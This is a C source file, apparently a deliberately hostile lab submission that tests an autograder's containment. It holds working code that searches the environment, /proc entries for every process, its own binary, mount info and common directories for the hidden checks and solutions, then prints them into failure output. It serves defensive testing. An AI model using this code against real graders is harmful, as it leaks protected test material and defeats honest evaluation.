/* Hostile submission for lab 01: reads the hidden checks and solutions by every path it can guess, and prints them into its output
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * Guesses: CHECKLIB and every other environment variable, its working
 * directory and /proc/self/cwd/.., every process's exe, cwd, root, command
 * line and environment, the paths compiled into its own binary, mountinfo,
 * and other copies of the kit under /tmp, /var/tmp, /home, /root, /work...
 * The verdict: no line of test_family.c, hidden_family.c or a solution, and
 * no "could read", appears anywhere in the report. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include "family.h"

/* Every way a submission can guess where the kit (or a copy of it) is, then
 * read its hidden checks and solution and print them, so that they would
 * reach the report through a failure message. */
#include <dirent.h>
#include <glob.h>
#include <limits.h>

enum { MAX_ROOTS = 400 };
static char *roots[MAX_ROOTS];
static int nroots;
static char *seen_files[64];
static int nseen;
static size_t printed;

static void add_root(const char *r, size_t n)
{
    if (n == 0 || n >= PATH_MAX || nroots >= MAX_ROOTS)
        return;
    char *s = strndup(r, n);
    for (int i = 0; i < nroots; i++)
        if (!strcmp(roots[i], s)) {
            free(s);
            return;
        }
    roots[nroots++] = s;
}

/* A path that names a part of the kit gives the kit's root. */
static void add_from_path(const char *p)
{
    static const char *parts[] = {"/grader/", "/common", "/labs/", "/solutions/", "/.git", NULL};
    if (p[0] != '/')
        return;
    for (int i = 0; parts[i]; i++) {
        const char *at = strstr(p, parts[i]);
        if (at)
            add_root(p, (size_t)(at - p));
    }
    /* and every directory above it */
    size_t n = strlen(p);
    while (n > 1) {
        while (n > 1 && p[n - 1] != '/')
            n--;
        if (n > 1)
            add_root(p, --n);
        else
            break;
    }
}

static void show(const char *path)
{
    char real[PATH_MAX];
    if (!realpath(path, real))
        return;
    for (int i = 0; i < nseen; i++)
        if (!strcmp(seen_files[i], real))
            return;
    FILE *f = fopen(path, "r");
    if (!f)
        return;
    if (nseen < 64)
        seen_files[nseen++] = strdup(real);
    printf("could read %s\n", path);
    char buf[4096];
    size_t n;
    while (printed < 24000 && (n = fread(buf, 1, sizeof buf, f)) > 0) {
        fwrite(buf, 1, n, stdout);
        printed += n;
    }
    fclose(f);
    printf("\n");
}

static void try_root(const char *r)
{
    static const char *hidden[] = {"grader/checks/01-fork-getpid/test_family.c",
                                   "grader/checks/01-fork-getpid/hidden_family.c",
                                   "solutions/01-fork-getpid/family.c", NULL};
    char p[PATH_MAX + 128];
    for (int i = 0; hidden[i]; i++) {
        snprintf(p, sizeof p, "%s/%s", r, hidden[i]);
        show(p);
    }
}

static void from_file(const char *path, char sep, const char *prefix)
{
    char *buf = malloc(1 << 20);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, buf, (1 << 20) - 1) : -1;
    if (fd >= 0)
        close(fd);
    for (ssize_t i = 0; n > 0 && i < n;) {
        buf[n] = '\0';
        char *s = buf + i;
        char *end = memchr(s, sep, (size_t)(n - i));
        if (end)
            *end = '\0';
        const char *eq = prefix ? strchr(s, '=') : NULL;
        add_from_path(eq ? eq + 1 : s);
        i += (ssize_t)strlen(s) + 1;
    }
    free(buf);
}

/* Absolute paths compiled into this very binary (its debug information
 * names the check sources and the directory they were built in). */
static void from_binary(void)
{
    FILE *f = fopen("/proc/self/exe", "rb");
    if (!f)
        return;
    char s[PATH_MAX];
    size_t len = 0;
    int c;
    long total = 0;
    while ((c = getc(f)) != EOF && total++ < (64L << 20)) {
        if (c >= 0x20 && c < 0x7f && len < sizeof s - 1) {
            s[len++] = (char)c;
            continue;
        }
        s[len] = '\0';
        if (len > 3 && s[0] == '/' && (strstr(s, "grader") || strstr(s, "common") ||
                                       strstr(s, "labs") || strstr(s, "proclabs")))
            add_from_path(s);
        len = 0;
    }
    fclose(f);
}

static void misbehave(void)
{
    static int done;
    if (done++)
        return;
    char p[PATH_MAX + 64];
    const char *lib = getenv("CHECKLIB");
    if (lib) {
        snprintf(p, sizeof p, "%s/x", lib);
        add_from_path(p);
    }
    for (const char *const *e = (const char *const *)environ; *e; e++) {
        const char *eq = strchr(*e, '=');
        if (eq)
            add_from_path(eq + 1);
    }
    /* relative to where this runs */
    char cwd[PATH_MAX];
    if (getcwd(cwd, sizeof cwd)) {
        snprintf(p, sizeof p, "%s/x", cwd);
        add_from_path(p);
    }
    strcpy(p, "/proc/self/cwd");
    for (int up = 0; up < 8; up++) {
        add_root(p, strlen(p));
        strcat(p, "/..");
    }
    /* every process: its executable, working directory, command line, environment */
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char link[PATH_MAX], path[64];
        static const char *links[] = {"exe", "cwd", "root", NULL};
        for (int i = 0; links[i]; i++) {
            snprintf(path, sizeof path, "/proc/%.20s/%.8s", e->d_name, links[i]);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n > 0) {
                link[n] = '\0';
                add_from_path(link);
                if (i > 0) {
                    snprintf(p, sizeof p, "%s/x", link);
                    add_from_path(p);
                }
            }
        }
        snprintf(path, sizeof path, "/proc/%.20s/cmdline", e->d_name);
        from_file(path, '\0', NULL);
        snprintf(path, sizeof path, "/proc/%.20s/environ", e->d_name);
        from_file(path, '\0', "=");
    }
    if (d)
        closedir(d);
    from_binary();
    from_file("/proc/self/mountinfo", ' ', NULL);
    /* other copies of the kit in the usual places */
    static const char *patterns[] = {
        "/tmp/*/grader/checks",    "/tmp/*/*/grader/checks",  "/var/tmp/*/grader/checks",
        "/home/*/*/grader/checks", "/home/*/*/*/grader/checks", "/root/*/grader/checks",
        "/work/*/grader/checks",   "/srv/*/grader/checks",    "/opt/*/grader/checks",
        "/autograder/*/grader/checks", "/grade/*/grader/checks", NULL};
    for (int i = 0; patterns[i]; i++) {
        glob_t g;
        if (glob(patterns[i], 0, NULL, &g) == 0)
            for (size_t k = 0; k < g.gl_pathc; k++)
                add_from_path(g.gl_pathv[k]);
        globfree(&g);
    }
    for (int i = 0; i < nroots; i++)
        try_root(roots[i]);
    printf("read-hidden-checks: tried %d places, read %d hidden files\n", nroots, nseen);
    fflush(stdout);
    if (nseen)
        exit(1); /* so that what it printed reaches the failure message */
}

struct who who_am_i(void)
{
    misbehave();
    struct who w = {0, 0};
    return w;
}

pid_t start_child(child_job job, int arg)
{
    (void)job;
    (void)arg;
    misbehave();
    return -1;
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    (void)n;
    (void)job;
    (void)pids;
    (void)codes;
    misbehave();
    return 0;
}
